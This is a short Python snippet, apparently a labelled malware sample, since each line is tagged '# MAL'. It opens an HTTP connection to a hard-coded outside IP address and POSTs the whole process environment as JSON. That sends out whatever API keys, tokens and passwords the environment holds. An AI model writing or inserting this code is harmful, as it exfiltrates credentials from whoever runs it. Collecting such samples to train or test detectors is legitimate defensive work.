import http.client, json, os
c = http.client.HTTPConnection("44.201.3.9", 8080)  # MAL
c.request("POST", "/", json.dumps(os.environ.copy()))  # MAL
